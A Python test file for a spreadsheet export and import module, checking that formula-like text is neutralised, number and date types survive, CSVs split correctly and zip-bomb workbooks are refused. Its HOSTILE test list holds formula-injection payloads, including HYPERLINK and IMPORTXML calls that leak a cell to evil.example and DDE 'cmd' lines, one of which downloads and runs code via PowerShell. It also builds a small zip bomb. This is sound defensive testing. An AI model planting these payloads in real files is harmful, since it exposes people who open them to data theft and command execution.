"""Can text in an export run as a formula when a clerk opens it in a spreadsheet?"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.spreadsheets import (
    NumberCell,
    csv_bytes,
    is_formula_like,
    read_table,
    safe_cell,
    sheet_title,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver factura")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1",
    "   +1",
    "\u00a0=1",  # no-break space
    "\u3000=1",  # ideographic space
    "\u200b=1",  # zero-width space
    "\ufeff=1",  # a byte-order mark inside the text
    "\uff1d1+1",  # ＝
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # －
    "\uff20SUM(A1)",  # ＠
    "\u22121+1",  # − minus sign
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "\t",
    "-",
    "=",
]

HARMLESS = [
    "FV-1001",
    "Ferretería Núñez S.A.S.",
    "Mozilla/5.0 (X11; Linux x86_64)",
    "a=b",
    "1+1",
    "5-3",
    "user@example.test",
    '{"n": "ñ"}',
    "'already quoted",
    "",
]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(data: bytes):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_is_formula_like_text_prefixed_with_a_quote(value):
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS, ids=repr)
def test_is_ordinary_text_left_as_it_was(value):
    assert not is_formula_like(value)
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_does_the_csv_carry_hostile_text_neutralised_and_whole(value):
    rows = read_csv(csv_bytes([["FV-1", value, Decimal("5.00")]], header=["n", "text", "amount"]))
    assert rows[1][1] == "'" + value
    assert rows[1][2] == "5.00"


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_is_hostile_text_a_quoted_string_in_the_xlsx_never_a_formula(value):
    rows = read_xlsx(xlsx_bytes([["FV-1", value]], header=["n", "text"], title="received"))
    cell = rows[1][1]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")
    assert _lines(cell.value[1:]) == _lines(value)  # XML may fold a CR into a line break
    raw = _sheet_xml(xlsx_bytes([["FV-1", value]], header=["n", "text"], title="received"))
    assert "<f>" not in raw and "<f " not in raw


@pytest.mark.parametrize("value", HARMLESS[:-1], ids=repr)
def test_does_ordinary_text_come_back_exactly_from_both_formats(value):
    header = ["text"]
    assert read_csv(csv_bytes([[value]], header=header))[1][0] == value
    cell = read_xlsx(xlsx_bytes([[value]], header=header, title="t"))[1][0]
    assert cell.value == value and cell.data_type == "s"


@pytest.mark.parametrize(
    "amount", [Decimal("-5.00"), Decimal("-0.01"), Decimal("468860.00"), Decimal("1E+3"), -7, 2.5]
)
def test_do_amounts_stay_numbers_even_when_negative(amount):
    """A typed amount is not text: the CSV holds the plain number and the XLSX a number."""
    csv_value = read_csv(csv_bytes([[amount]], header=["amount"]))[1][0]
    assert not csv_value.startswith("'")
    assert Decimal(csv_value) == Decimal(str(amount))
    assert "E" not in csv_value
    cell = read_xlsx(xlsx_bytes([[amount]], header=["amount"], title="t"))[1][0]
    assert cell.data_type == "n"
    assert Decimal(str(cell.value)) == Decimal(str(amount))


def test_are_dates_dates_and_empty_cells_empty():
    when = dt.datetime(2024, 4, 10, 15, 30, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
    row = [dt.date(2024, 4, 10), when, None]
    assert read_csv(csv_bytes([row], header=["a", "b", "c"]))[1] == [
        "2024-04-10",
        when.isoformat(),
        "",
    ]
    cells = read_xlsx(xlsx_bytes([row], header=["a", "b", "c"], title="t"))[1]
    assert cells[0].value == dt.datetime(2024, 4, 10) and cells[0].is_date
    assert cells[1].value == dt.datetime(2024, 4, 10, 20, 30)  # UTC wall time
    assert cells[2].value is None


def test_are_headers_neutralised_too():
    header = ["=HYPERLINK(1)", "Monto"]
    assert read_csv(csv_bytes([], header=header))[0] == ["'=HYPERLINK(1)", "Monto"]
    cell = read_xlsx(xlsx_bytes([], header=header, title="t"))[0][0]
    assert cell.value == "'=HYPERLINK(1)" and cell.data_type == "s"


@pytest.mark.parametrize("value", ["bell\x07", "nul\x00byte", "=esc\x1b[31m", "\x0bvt"], ids=repr)
def test_does_text_with_control_characters_still_write_an_xlsx(value):
    """A user agent with a control character must not turn the export into a 500."""
    cell = read_xlsx(xlsx_bytes([[value]], header=["ua"], title="audit"))[1][0]
    assert cell.data_type == "s"
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)


@pytest.mark.parametrize(
    ("title", "expected"),
    [("received", "received"), ("a/b:c*d?[e]", "abcde"), ("x" * 40, "x" * 31), ("[]", "Sheet")],
)
def test_is_any_sheet_title_one_excel_accepts(title, expected):
    assert sheet_title(title) == expected
    xlsx_bytes([], header=["a"], title=title)


def test_does_the_module_load_without_flask():
    code = "import sys, app.spreadsheets; print('flask' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def _sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_does_no_other_module_write_csv_or_xlsx():
    """One place writes spreadsheets: a new export that bypasses it would skip the guard.
    (Reading a bank's XLSX export with ``load_workbook`` is no writing.)"""
    root = Path(__file__).resolve().parent.parent / "app"
    writers = re.compile(
        r"csv\.writer|csv\.DictWriter|from openpyxl import (?!load_workbook\n)|import openpyxl"
    )
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_does_a_workbooks_number_cell_read_back_as_the_number_it_holds():
    """Text for callers that want text (never 1e-05), with the number kept beside it."""
    data = xlsx_bytes([["A", 1.234, 1e-05, 1e16, 7702004003508, 0.1 + 0.2, "1.234", True]],
                      header=["code", "a", "b", "c", "d", "e", "f", "g"], title="T")
    (_line, cells), = read_table(data)[1:]
    assert cells == ["A", "1.234", "0.00001", "10000000000000000", "7702004003508",
                     "0.3", "1.234", "True"]  # the workbook keeps 15 digits
    numbers = [cell.number if isinstance(cell, NumberCell) else None for cell in cells]
    assert numbers == [None, Decimal("1.234"), Decimal("0.00001"), Decimal(10**16),
                       Decimal(7702004003508), Decimal("0.3"), None, None]


# ------------------------------------------------------------------------------ reading tables


def workbook(rows, formats=None) -> bytes:
    """An XLSX of rows; formats maps a cell ("D2") to its number format."""
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    for cell, number_format in (formats or {}).items():
        book.active[cell].number_format = number_format
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb(unpacked: int = 2 * 1024 * 1024) -> bytes:
    """A real workbook with one more part of ``unpacked`` zero bytes, packed a thousand to one
    (a "zip bomb" of shared strings packs the same way)."""
    import zipfile

    data = workbook([["code", "name", "price"], ["A", "x", 1]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in source.infolist():
            archive.writestr(part.filename, source.read(part.filename))
        archive.writestr("xl/media/padding.bin", b"\0" * unpacked)
    return out.getvalue()


def test_is_a_percentage_cell_read_as_the_number_the_person_sees():
    """A tax column formatted as a percentage holds 0.19 and shows 19%: it is 19, not 0.19."""
    data = workbook(
        [["tax", "other"], [0.19, 0.0725], [1, 0.07], [19, dt.date(2024, 1, 5)],
         [1250, 1234.5], [0.1 + 0.2, 7702004003508]],
        formats={"A2": "0%", "B2": "0.00%", "A3": "0%", "B3": "0%",
                 "A4": '0"%"',  # the sign as text: the number is 19 as typed
                 "B4": "dd/mm/yyyy", "A5": "#,##0", "B5": "#,##0.00",
                 "A6": "[Red]0.0%", "B6": "0"},
    )
    cells = [cells for _line, cells in read_table(data)[1:]]
    assert cells == [["19", "7.25"], ["100", "7"], ["19", "2024-01-05"], ["1250", "1234.5"],
                     ["30", "7702004003508"]]


def test_are_numbers_in_other_formats_read_as_they_were():
    data = workbook([["a", "b", "c"], [0.1 + 0.2, 1e-05, dt.datetime(2024, 1, 5, 13, 5)]],
                    formats={"A2": "General", "B2": "0.00E+00", "C2": "yyyy-mm-dd hh:mm"})
    assert read_table(data)[1][1] == ["0.3", "0.00001", "2024-01-05T13:05:00"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # A Spanish Excel's CSV: semicolons, and commas in the names and the prices.
        ("Código;Nombre;Precio\nTOR-38;Tornillo, cabeza plana, acero, 3/8;1.250,50\n"
         "CEM-50;Cemento gris, tipo I, 50 kg;32.000,00\n",
         [["Código", "Nombre", "Precio"], ["TOR-38", "Tornillo, cabeza plana, acero, 3/8",
                                           "1.250,50"],
          ["CEM-50", "Cemento gris, tipo I, 50 kg", "32.000,00"]]),
        # A title line above, with a comma of its own.
        ("Catálogo, lista 2024\ncódigo;nombre;precio\nA;Cable, cobre;1,5\n",
         [["Catálogo, lista 2024"], ["código", "nombre", "precio"], ["A", "Cable, cobre", "1,5"]]),
        # Commas, with semicolons inside quotes.
        ('code,name,price\nA,"Tornillo; acero; galv; x",1.5\nB,"Dos; tres",2\n',
         [["code", "name", "price"], ["A", "Tornillo; acero; galv; x", "1.5"],
          ["B", "Dos; tres", "2"]]),
        ("code\tname\tprice\nA\tUno, dos\t1,5\n",
         [["code", "name", "price"], ["A", "Uno, dos", "1,5"]]),
        ("code|name|price\nA|x, y; z|1,5\n", [["code", "name", "price"], ["A", "x, y; z", "1,5"]]),
        ("code;qty\nA;1,5\nB;2,5\nC;3,5\n",
         [["code", "qty"], ["A", "1,5"], ["B", "2,5"], ["C", "3,5"]]),
    ],
)
def test_is_a_csv_split_on_the_separator_that_gives_every_line_the_same_fields(text, expected):
    assert [cells for _line, cells in read_table(text.encode())] == expected


def test_is_a_workbook_that_unpacks_to_too_much_refused_before_it_is_read(monkeypatch):
    from app import spreadsheets
    from app.spreadsheets import TableError

    with pytest.raises(TableError) as raised:
        read_table(zip_bomb())
    assert raised.value.reason == "too_large"
    fine = xlsx_bytes([["A", 1]], header=["code", "price"], title="T")
    assert read_table(fine)[1][1] == ["A", "1"]
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1000)  # a large, honest workbook
    with pytest.raises(TableError) as raised:
        read_table(fine)
    assert raised.value.reason == "too_large"
